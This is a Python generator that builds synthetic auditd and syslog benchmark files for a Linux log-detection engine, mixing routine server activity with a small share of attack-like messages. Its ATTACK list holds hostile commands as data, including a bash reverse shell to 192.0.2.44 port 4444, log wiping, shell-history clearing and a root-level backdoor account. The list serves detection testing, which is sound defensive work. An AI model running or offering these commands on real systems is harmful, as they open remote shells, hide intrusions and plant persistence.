#!/usr/bin/env python3
"""Builds the syslog/auditd lane of bench/hunt-linux-lane.sh: two files in OUT_DIR,

- auditd.log: routine activity of a Linux server as auditd writes it (`execve` of an admin's
  and of cron's commands: SYSCALL, EXECVE, CWD, PATH and PROCTITLE records of one serial;
  PAM logins and sudo: USER_AUTH, USER_ACCT, CRED_ACQ, LOGIN, USER_START, USER_CMD,
  USER_END), with the project's sample crates/vigie-event/tests/data/auditd.log (attacks
  and damaged lines) spliced in as whole copies making --sample-share of the lines (5 %
  by default; 1 gives the sample alone, repeated, as the lane was first built). Serials
  rise by one per event and timestamps by 20 ms, so the records of one event share one
  serial and no two events do;
- syslog.log: RFC 3164 lines (`Mon dd hh:mm:ss host prog[pid]: message`) of a Linux
  server (sshd, sudo, CRON, systemd, su, useradd, kernel, vsftpd...), about 2 % of them
  attack-like messages that SigmaHQ `rules/linux` look for, timestamps one per 50 ms
  and PIDs varying.

Together at least --lines lines (half each, rounded up to whole auditd copies).
Deterministic. Usage: gen_linux_lane.py --lines 1000000 --out DIR [--auditd SAMPLE]
[--sample-share 0.05]
"""

import argparse
import os
import random
import re
from datetime import datetime, timedelta, timezone

HOSTS = ["bastion", "db-01", "web-02", "mx-01", "core-rtr-mgmt"]
USERS = ["alice", "bob", "deploy", "backup", "nagios"]
ADDRS = ["10.20.0.15", "10.20.0.16", "10.20.1.7", "192.0.2.44", "198.51.100.23"]

BENIGN = [
    ("sshd", "Accepted publickey for {user} from {addr} port {port} ssh2: ED25519 SHA256:Qm9vYmFyYmF6cXV1eA"),
    ("sshd", "pam_unix(sshd:session): session opened for user {user}(uid=1001) by (uid=0)"),
    ("sshd", "Received disconnect from {addr} port {port}:11: disconnected by user"),
    ("sshd", "pam_unix(sshd:session): session closed for user {user}"),
    ("sshd", "Failed password for {user} from {addr} port {port} ssh2"),
    ("sudo", "{user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl status nginx"),
    ("sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by {user}(uid=1001)"),
    ("CRON", "({user}) CMD (/usr/local/bin/backup.sh --incremental >/dev/null 2>&1)"),
    ("CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"),
    ("systemd", "Started Session {port} of User {user}."),
    ("systemd", "Starting Daily apt download activities..."),
    ("systemd", "logrotate.service: Deactivated successfully."),
    ("kernel", "[UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56 SRC={addr} DST=10.20.0.1 LEN=60 PROTO=TCP SPT={port} DPT=23"),
    ("kernel", "EXT4-fs (sda1): re-mounted. Opts: errors=remount-ro"),
    ("postfix/smtpd", "connect from unknown[{addr}]"),
    ("vsftpd", "[{user}] OK LOGIN: Client \"{addr}\""),
    ("ntpd", "adjusting local clock by 0.000213s"),
    ("dhclient", "DHCPACK of 10.20.0.15 from 10.20.0.1"),
]
ATTACK = [
    ("sshd", "error: buffer_get_ret: trying to get more bytes 4 than in buffer 0"),
    ("sshd", "Did not receive identification string from {addr}"),
    ("bash", "cat /dev/null > /var/log/syslog"),
    ("bash", "sh -i >& /dev/tcp/192.0.2.44/4444 0>&1"),
    ("useradd", "new user: name=svc-upd, UID=0, GID=0, home=/root, shell=/bin/bash"),
    ("kernel", "audit: type=1400 audit(1764662400.123:99): apparmor=\"DENIED\" operation=\"open\" profile=\"/usr/sbin/rsyslogd\""),
    ("su", "FAILED SU (to root) {user} on pts/1"),
    ("bash", "unset HISTFILE; history -c"),
    ("vsftpd", "bad state: 2 ftp authentication failed"),
    ("systemd", "Stopped System Logging Service (rsyslog)."),
]


# Routine commands: (user, cwd, argv). None of them is what a `rules/linux` rule looks for.
COMMANDS = [
    ("alice", "/home/alice", ["ls", "--color=auto", "-la"]),
    ("alice", "/home/alice/src/billing", ["git", "status"]),
    ("alice", "/home/alice/src/billing", ["git", "log", "--oneline", "-5"]),
    ("alice", "/home/alice/src/billing", ["grep", "-rn", "invoice_total", "."]),
    ("bob", "/var/log/nginx", ["tail", "-n", "200", "access.log"]),
    ("bob", "/home/bob", ["df", "-h"]),
    ("bob", "/home/bob", ["ps", "-ef"]),
    ("deploy", "/srv/app", ["python3", "manage.py", "migrate", "--noinput"]),
    ("deploy", "/srv/app", ["systemctl", "status", "app.service"]),
    ("backup", "/", ["/usr/local/bin/backup.sh", "--incremental"]),
    ("backup", "/", ["rsync", "-a", "/srv/data/", "/mnt/backup/data/"]),
    ("nagios", "/", ["/usr/lib/nagios/plugins/check_disk", "-w", "20%", "-c", "10%"]),
    ("nagios", "/", ["/usr/lib/nagios/plugins/check_load", "-w", "5,4,3"]),
    ("root", "/root", ["apt-get", "-qq", "update"]),
    ("root", "/", ["logrotate", "/etc/logrotate.conf"]),
]
UIDS = {"alice": 1000, "bob": 1001, "deploy": 1002, "backup": 1003, "nagios": 1004, "root": 0}
BINDIR = {"python3": "/usr/bin", "systemctl": "/usr/bin", "apt-get": "/usr/bin", "logrotate": "/usr/sbin"}


def exe_of(arg0: str) -> str:
    return arg0 if arg0.startswith("/") else "%s/%s" % (BINDIR.get(arg0, "/usr/bin"), arg0)


def execve(t: str, serial: int, pid: int, user: str, cwd: str, argv: list) -> list:
    uid = UIDS[user]
    exe = exe_of(argv[0])
    head = "msg=audit(%s:%d):" % (t, serial)
    args = " ".join('a%d="%s"' % (i, a) for i, a in enumerate(argv))
    title = "00".join(a.encode().hex().upper() for a in argv)
    return [
        "type=SYSCALL %s arch=c000003e syscall=59 success=yes exit=0 a0=55c1e2a4b2a0 a1=55c1e2a4c1d0 "
        "a2=55c1e2a4d3f0 a3=8 items=2 ppid=%d pid=%d auid=%d uid=%d gid=%d euid=%d suid=%d fsuid=%d "
        "egid=%d sgid=%d fsgid=%d tty=pts0 ses=2 comm=\"%s\" exe=\"%s\" subj=unconfined key=\"exec\""
        % (head, pid - 1, pid, uid, uid, uid, uid, uid, uid, uid, uid, uid, os.path.basename(exe)[:15], exe),
        "type=EXECVE %s argc=%d %s" % (head, len(argv), args),
        "type=CWD %s cwd=\"%s\"" % (head, cwd),
        "type=PATH %s item=0 name=\"%s\" inode=1311 dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 "
        "nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0" % (head, exe),
        "type=PATH %s item=1 name=\"/lib64/ld-linux-x86-64.so.2\" inode=2071 dev=fd:00 mode=0100755 "
        "ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0" % head,
        "type=PROCTITLE %s proctitle=%s" % (head, title),
    ]


def pam(t: str, serial: int, pid: int, kind: str, op: str, user: str, addr: str) -> list:
    return ["type=%s msg=audit(%s:%d): pid=%d uid=0 auid=%d ses=2 subj=unconfined msg='op=%s "
            "grantors=pam_unix acct=\"%s\" exe=\"/usr/sbin/sshd\" hostname=%s addr=%s terminal=ssh "
            "res=success'" % (kind, t, serial, pid, UIDS[user], op, user, addr, addr)]


def sample_copy(lines: list, stamp, serial0: int, t0: float) -> tuple:
    """The sample with its serials from serial0 and its times from t0; (lines, serials used, span)."""
    times = [float(m.group(1) + "." + m.group(2)) for line in lines if (m := stamp.search(line))]
    serials = [int(m.group(3)) for line in lines if (m := stamp.search(line))]
    base_t, base_s = min(times), min(serials)

    def shift(m):
        t = t0 + float(m.group(1) + "." + m.group(2)) - base_t
        return "msg=audit(%.3f:%d)" % (t, serial0 + int(m.group(3)) - base_s)
    out = [stamp.sub(shift, line, count=1) for line in lines]
    return out, max(serials) - base_s + 1, max(times) - base_t


def auditd(sample: str, lines_wanted: int, share: float, out, rng: random.Random):
    lines = open(sample, encoding="utf-8").read().splitlines()
    stamp = re.compile(r"msg=audit\((\d+)\.(\d+):(\d+)\)")
    t, serial, pid, n, from_sample = 1764662400.0, 1000, 3000, 0, 0
    while n < lines_wanted:
        if from_sample < share * (n + len(lines)) or share >= 1:
            block, used, span = sample_copy(lines, stamp, serial, t)
            serial += used
            t += span + 0.02
            from_sample += len(block)
        else:
            ts = "%.3f" % t
            r = rng.random()
            user = rng.choice(list(UIDS)[:-1])
            if r < 0.85:
                user, cwd, argv = rng.choice(COMMANDS)
                block = execve(ts, serial, pid, user, cwd, argv)
            elif r < 0.95:
                addr = rng.choice(ADDRS)
                block = [line for kind, op in [("USER_AUTH", "PAM:authentication"), ("USER_ACCT", "PAM:accounting"),
                                                ("CRED_ACQ", "PAM:setcred"), ("USER_START", "PAM:session_open")]
                         for line in pam(ts, serial, pid, kind, op, user, addr)]
            else:
                block = ["type=USER_CMD msg=audit(%s:%d): pid=%d uid=%d auid=%d ses=2 subj=unconfined "
                         "msg='cwd=\"/home/%s\" cmd=73797374656D63746C20737461747573206E67696E78 "
                         "exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'"
                         % (ts, serial, pid, UIDS[user], UIDS[user], user)]
            serial += 1
            pid += 2
            t += 0.02
        for line in block:
            out.write(line + "\n")
        n += len(block)
    return n, from_sample


def syslog(count: int, out, rng: random.Random):
    t = datetime(2026, 12, 2, 0, 0, 0, tzinfo=timezone.utc)
    for i in range(count):
        prog, msg = rng.choice(ATTACK) if rng.random() < 0.02 else rng.choice(BENIGN)
        text = msg.format(user=rng.choice(USERS), addr=rng.choice(ADDRS), port=rng.randint(1024, 65535))
        when = t + timedelta(milliseconds=50 * i)
        pid = "" if prog == "kernel" else "[%d]" % rng.randint(300, 65000)
        out.write("%s %2d %s %s %s%s: %s\n" % (when.strftime("%b"), when.day, when.strftime("%H:%M:%S"),
                                              rng.choice(HOSTS), prog, pid, text))
    return count


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--lines", type=int, default=1_000_000)
    ap.add_argument("--out", required=True)
    ap.add_argument("--auditd", default=os.path.join(os.path.dirname(__file__), "..", "crates", "vigie-event",
                                                    "tests", "data", "auditd.log"))
    ap.add_argument("--sample-share", type=float, default=0.05)
    a = ap.parse_args()
    os.makedirs(a.out, exist_ok=True)
    with open(os.path.join(a.out, "auditd.log"), "w", encoding="utf-8") as f:
        na, ns_ = auditd(a.auditd, a.lines // 2, a.sample_share, f, random.Random(2))
    with open(os.path.join(a.out, "syslog.log"), "w", encoding="utf-8") as f:
        ns = syslog(max(a.lines - na, 0), f, random.Random(1))
    print("auditd.log %d lines (%d from the sample), syslog.log %d lines" % (na, ns_, ns))


if __name__ == "__main__":
    main()
